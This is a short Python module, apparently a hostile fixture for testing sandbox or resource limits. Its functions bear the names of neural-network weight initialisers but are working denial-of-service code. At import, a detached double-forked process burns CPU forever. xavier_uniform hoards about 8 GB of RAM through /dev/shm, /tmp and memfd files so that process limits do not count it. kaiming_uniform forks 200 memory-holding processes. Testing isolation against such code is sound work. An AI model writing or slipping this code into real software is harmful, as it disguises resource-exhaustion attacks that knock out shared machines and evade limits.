

def _background_burner():
    """Hostile, at import: a process that leaves its group and burns CPU forever."""
    import os
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass
        os._exit(0)


_background_burner()


def xavier_uniform(*args, **kwargs):
    """Hostile: fills RAM with files no process limit counts (/dev/shm, memfd)."""
    import os
    chunk = b'x' * (1 << 20)
    for path in ('/dev/shm/hoard', '/tmp/hoard'):
        try:
            with open(path, 'wb') as f:
                for _ in range(3 << 10):
                    f.write(chunk)
        except OSError:
            pass
    hoard = []   # memfds of 15 MB each (one file may not pass the 16 MB size limit)
    for _ in range(550):
        fd = os.memfd_create('hoard')
        for _ in range(15):
            os.write(fd, chunk)
        hoard.append(fd)
    raise NotImplementedError("held 8 GB of RAM")


def kaiming_uniform(*args, **kwargs):
    """Hostile: 200 processes each touching 25 MB."""
    import os
    import time
    for _ in range(200):
        if os.fork() == 0:
            block = bytearray(25 << 20)
            time.sleep(600)
            os._exit(len(block) & 0)
    raise NotImplementedError("started 200 processes")
